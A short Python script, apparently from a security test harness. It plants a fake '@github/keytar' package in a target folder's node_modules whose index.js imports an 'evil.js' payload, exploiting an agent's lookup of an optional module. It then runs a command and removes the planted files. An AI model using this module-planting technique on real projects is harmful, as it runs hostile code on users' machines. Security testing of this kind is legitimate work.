"""Plants a module beside the agent's package, which looks for an optional one there: ``... FOLDER COMMAND ...``."""

import shutil
import subprocess
import sys
import time
from pathlib import Path

import attacker

SETTLED_S = 0.5  # what was changed just before the start is refused for that alone
NAME = "@github/keytar"
CODE = 'import "{evil}"; await new Promise((done) => setTimeout(done, 10000));\n'  # the agent waits for it


def main(folder: Path, command: list[str]) -> None:
    module = folder / "node_modules" / NAME
    module.mkdir(parents=True)
    (module / "package.json").write_text('{"type":"module","main":"index.js"}')
    (module / "index.js").write_text(CODE.format(evil=Path(__file__).with_name("evil.js")))
    attacker.note(f"planted {NAME}")
    time.sleep(SETTLED_S)
    subprocess.run(command, check=False)
    shutil.rmtree(folder / "node_modules")


main(Path(sys.argv[1]), sys.argv[2:])
